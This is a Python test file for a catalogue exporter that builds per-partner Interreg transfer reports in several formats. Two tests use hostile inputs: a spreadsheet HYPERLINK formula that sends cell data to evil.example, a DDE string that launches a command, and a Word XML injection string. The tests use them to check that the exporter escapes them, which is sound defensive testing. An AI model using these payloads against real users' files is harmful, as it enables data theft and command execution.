"""The transfer report: per partner its practices, their validation, what went into which
action plan and when, with sources; from the catalogue alone, in a fixed order."""

from __future__ import annotations

import copy
import datetime as dt
from pathlib import Path
from typing import Any

import pytest

from catalogue.catalogue import Catalogue
from catalogue.errors import InvalidInput
from catalogue.exporters import REPORT_FORMATS, transfer_report, write_report
from catalogue.exporters.report import Heading, Paragraph, Report, Table
from tests.catalogue.export_data import FULL
from tests.catalogue.test_export_labels import RAW_CODES, text_of
from tests.conftest import sample_entry

DAY = dt.date(2026, 5, 12)
RIGA = FULL["organisation"]["name"]
TAMPERE = "Tampereen kaupunki"
BACAU = "Consiliul Județean Bacău"

TAMPERE_PRACTICE: dict[str, Any] = {
    **sample_entry(
        title="Tampereen chatbot päiväkotihakuun",
        organisation={"name": "Tampereen  kaupunki", "type": "municipality"},
        language="fi",
    ),
    "interreg": {
        "project": "AI4Cities Interreg Europe",
        "validation": "expert_validated",
        "transfers": [
            {"partner": RIGA, "action_plan": "Rīgas rīcības plāns", "date": "2025-02"},
        ],
    },
    "source": {"dataset": "workshop", "retrieved": "2025-01-20"},
}
OTHER_PROJECT: dict[str, Any] = {
    **sample_entry(title="Bacău parking sensors", organisation={"name": BACAU}),
    "interreg": {"project": "Smart Parking Europe", "validation": "draft"},
}
NOT_INTERREG = sample_entry(title="Tampere street lights", organisation={"name": TAMPERE})


def _catalogue(home: Path, order: list[dict[str, Any]]) -> Catalogue:
    catalogue = Catalogue.open(home, author="tester")
    catalogue.add_entries([copy.deepcopy(body) for body in order])
    return catalogue


@pytest.fixture
def filled(tmp_path: Path) -> Any:
    catalogue = _catalogue(tmp_path / "home", [FULL, TAMPERE_PRACTICE, OTHER_PROJECT, NOT_INTERREG])
    yield catalogue
    catalogue.close()


def _outline(report: Report) -> list[tuple[str, list[str]]]:
    """Each chapter with its headings and paragraphs, and each table's first row."""
    out = []
    for chapter in report.chapters:
        lines = []
        for block in chapter.blocks:
            if isinstance(block, Heading):
                lines.append(f"h{block.level} {block.text}")
            elif isinstance(block, Paragraph):
                lines.append(block.text)
            else:
                lines.append(" = ".join(block.rows[0]))
        out.append((chapter.title, lines))
    return out


def test_report_per_partner(filled: Catalogue) -> None:
    report = transfer_report(filled, date=DAY)
    assert report.partners == (BACAU, RIGA, TAMPERE)  # sorted; Tampere's spellings are one
    assert (report.practices, report.transfers) == (3, 3)
    outline = dict(_outline(report))
    assert outline[BACAU] == [
        "h2 Good practices identified",
        "h3 Bacău parking sensors",
        "validation = Draft",
        "h2 Transferred into its action plans",
        f"h3 {FULL['title']}",
        f"organisation = {RIGA}",
        "h2 Its practices transferred to other partners",
        "None recorded.",
    ]
    assert outline[TAMPERE] == [
        "h2 Good practices identified",
        "h3 Tampereen chatbot päiväkotihakuun",  # not the street lights: no Interreg data
        "validation = Validated by Policy Learning Platform experts",
        "h2 Transferred into its action plans",
        f"h3 {FULL['title']}",
        f"organisation = {RIGA}",
        "h2 Its practices transferred to other partners",
        "h3 Tampereen chatbot päiväkotihakuun",
        f"partner = {RIGA}",
    ]
    riga = next(c for c in report.chapters if c.title == RIGA)
    tables = [b for b in riga.blocks if isinstance(b, Table)]
    practice, incoming, first_out, second_out = (dict(t.rows) for t in tables)
    assert practice["validation"] == "Approved by the partner"
    assert practice["policy instrument"] == FULL["interreg"]["policy_instrument"]
    assert practice["dataset"] == "Partner contribution RIX-7"  # with its source
    assert practice["licence"] == "CC BY 4.0"
    assert incoming == {
        "organisation": TAMPERE,  # spacing as the other spellings
        "action plan": "Rīgas rīcības plāns",
        "date": "February 2025",
        "validation": "Validated by Policy Learning Platform experts",
        "dataset": "Workshop intake",
        "retrieved": "20 January 2025",
    }
    # Transfers out in date order: Tampere (June 2025) before Bacău (September 2025).
    assert (first_out["partner"], first_out["date"]) == (TAMPERE, "June 2025")
    assert (second_out["partner"], second_out["date"]) == (BACAU, "15 September 2025")
    assert first_out["note"] == FULL["interreg"]["transfers"][0]["note"]


def test_report_is_the_same_whatever_the_order_entries_came_in(
    filled: Catalogue, tmp_path: Path
) -> None:
    other = _catalogue(tmp_path / "other", [NOT_INTERREG, OTHER_PROJECT, TAMPERE_PRACTICE, FULL])
    try:
        assert transfer_report(other, date=DAY) == transfer_report(filled, date=DAY)
    finally:
        other.close()


def test_filters_by_project_and_partner(filled: Catalogue) -> None:
    report = transfer_report(filled, project="smart parking EUROPE", date=DAY)
    assert report.partners == (BACAU,)
    assert report.subtitle == "Project: Smart Parking Europe"
    report = transfer_report(filled, partner="tampereen kaupunki", lang="fi", date=DAY)
    assert report.partners == (TAMPERE,)
    assert report.subtitle == f"Kumppani: {TAMPERE}"
    assert report.title == "Siirtoraportti"
    with pytest.raises(InvalidInput, match="projects: AI4Cities Interreg Europe, Smart Parking"):
        transfer_report(filled, project="Nope")
    with pytest.raises(InvalidInput, match=f"partners: {BACAU}, {RIGA}, {TAMPERE}"):
        transfer_report(filled, partner="Nope")


def test_a_catalogue_without_interreg_data_has_nothing_to_report(catalogue: Catalogue) -> None:
    catalogue.add_entries([NOT_INTERREG])
    with pytest.raises(InvalidInput, match="no entry has Interregional learning data"):
        transfer_report(catalogue)


@pytest.mark.parametrize("fmt", list(REPORT_FORMATS))
def test_report_in_every_format(filled: Catalogue, tmp_path: Path, fmt: str) -> None:
    report = transfer_report(filled, date=DAY)
    result = write_report(report, fmt, tmp_path / f"report.{fmt}")
    assert result.partners == report.partners
    text = text_of(result.path)
    for words in (
        "Transfer report",
        "Made with Casebook on 12 May 2026",
        "Good practices identified",
        "Transferred into its action plans",
        "Approved by the partner",
        "Rīgas rīcības plāns",
        "15 September 2025",
        "Partner contribution RIX-7",
        *report.partners,
    ):
        assert words in text, words
    assert [code for code in RAW_CODES if code in text] == []
    finnish = write_report(
        transfer_report(filled, lang="fi", date=DAY), fmt, tmp_path / f"fi.{fmt}"
    )
    text = text_of(finnish.path)
    for words in ("Siirtoraportti", "Tunnistetut hyvät käytännöt", "Kumppanin hyväksymä"):
        assert words in text, words
    assert "Good practices identified" not in text


def test_report_refuses_json_and_keeps_existing_files(filled: Catalogue, tmp_path: Path) -> None:
    report = transfer_report(filled, date=DAY)
    with pytest.raises(InvalidInput, match="choose one of pdf, docx, xlsx, md, html"):
        write_report(report, "json", tmp_path / "r.json")
    existing = tmp_path / "r.md"  # beside the fixture's home folder
    existing.write_text("keep")
    with pytest.raises(InvalidInput, match="exists"):
        write_report(report, "md", existing)
    assert existing.read_text() == "keep"
    assert write_report(report, "md", existing, overwrite=True).bytes > 100
    folder = tmp_path / "out"
    folder.mkdir()
    assert write_report(report, "md", folder).path == folder / "Transfer report.md"


def test_a_report_workbook_keeps_formulas_as_text(catalogue: Catalogue, tmp_path: Path) -> None:
    """A partner's text that begins with "=" is written as text, never as a formula."""
    import openpyxl

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    catalogue.add_entry(
        {
            **sample_entry(title=hostile, organisation={"name": "=cmd|' /C calc'!A0"}),
            "interreg": {
                "project": "AI4Citizens",
                "transfers": [{"partner": "Riga [RDA]: *digital*/agency?", "action_plan": hostile}],
            },
        }
    )
    path = write_report(transfer_report(catalogue, date=DAY), "xlsx", tmp_path / "r.xlsx").path
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value]
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert sum(c.value == hostile for c in cells) >= 2
    assert book.sheetnames[0] == "Transfer report"
    assert "Riga  RDA   digital  agency" not in book.sheetnames  # spacing made plain
    assert "Riga RDA digital agency" in book.sheetnames


def test_a_long_value_in_the_pdf_report_goes_on_to_the_next_page(
    catalogue: Catalogue, tmp_path: Path
) -> None:
    """The report's tables break lines themselves: a value longer than a page carries on
    to the next one, a word longer than a line is cut, and right-to-left text is shaped."""
    from pypdf import PdfReader

    opinion = " ".join(f"word{n}" for n in range(1500)) + " " + "x" * 300
    catalogue.add_entry(
        {
            **sample_entry(title="Long opinion", organisation={"name": "مدينة الرياض"}),
            "interreg": {"project": "AI4Citizens", "expert_opinion": opinion},
        }
    )
    path = write_report(transfer_report(catalogue, date=DAY), "pdf", tmp_path / "r.pdf").path
    pages = PdfReader(path).pages
    assert len(pages) >= 3
    text = text_of(path)
    assert "word0 word1" in text
    assert "word1499" in text
    assert "x" * 100 in text.replace(" ", "")


def test_the_docx_report_keeps_markup_in_values_as_text(
    catalogue: Catalogue, tmp_path: Path
) -> None:
    """The report's Word tables are written as XML: a partner's `<`, `&` and quotes stay
    the characters they are, and a newline is a line break."""
    import docx

    plan = '</w:t></w:r><w:r><w:t>injected & "quoted" <b>'
    catalogue.add_entry(
        {
            **sample_entry(title="Markup"),
            "interreg": {
                "project": "AI4Citizens",
                "transfers": [{"partner": "Riga", "action_plan": plan, "note": "one\ntwo"}],
            },
        }
    )
    path = write_report(transfer_report(catalogue, date=DAY), "docx", tmp_path / "r.docx").path
    cells = [c.text for t in docx.Document(str(path)).tables for r in t.rows for c in r.cells]
    assert plan in cells
    assert "one\ntwo" in cells
